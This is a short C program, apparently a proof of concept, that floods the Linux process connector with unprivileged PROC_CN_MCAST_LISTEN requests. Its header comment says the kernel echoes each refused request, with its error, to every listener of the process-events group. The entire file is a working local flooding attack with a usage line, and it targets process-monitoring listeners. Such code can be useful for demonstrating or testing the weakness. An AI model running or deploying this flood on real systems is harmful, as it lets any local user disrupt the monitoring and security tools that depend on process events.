// What any local user can do to a process-connector listener: ask the kernel for process events over and over. An
// unprivileged request is refused, but the kernel acknowledges it, with its error, to every listener of the group.
// Usage: ack_flood N  (sends N PROC_CN_MCAST_LISTEN requests, prints how many went out)
#include <linux/cn_proc.h>
#include <linux/connector.h>
#include <linux/netlink.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

int main(int argc, char** argv) {
  long n = argc > 1 ? strtol(argv[1], NULL, 10) : 100000;
  int fd = socket(AF_NETLINK, SOCK_DGRAM, NETLINK_CONNECTOR);
  if (fd < 0) {
    perror("socket");
    return 1;
  }
  struct sockaddr_nl self = {.nl_family = AF_NETLINK, .nl_groups = 0};
  if (bind(fd, (struct sockaddr*)&self, sizeof(self)) != 0) {
    perror("bind");
    return 1;
  }
  struct {
    struct nlmsghdr nl;
    struct cn_msg cn;
    enum proc_cn_mcast_op op;
  } __attribute__((packed)) msg;
  struct sockaddr_nl kernel = {.nl_family = AF_NETLINK};
  long sent = 0;
  for (long i = 0; i < n; ++i) {
    memset(&msg, 0, sizeof(msg));
    msg.nl.nlmsg_len = sizeof(msg);
    msg.nl.nlmsg_type = NLMSG_DONE;
    msg.nl.nlmsg_pid = (unsigned)getpid();
    msg.cn.id.idx = CN_IDX_PROC;
    msg.cn.id.val = CN_VAL_PROC;
    msg.cn.seq = (unsigned)i;
    msg.cn.ack = (unsigned)i;
    msg.cn.len = sizeof(msg.op);
    msg.op = PROC_CN_MCAST_LISTEN;
    if (sendto(fd, &msg, sizeof(msg), 0, (struct sockaddr*)&kernel, sizeof(kernel)) == (ssize_t)sizeof(msg)) ++sent;
  }
  printf("%ld\n", sent);
  return 0;
}
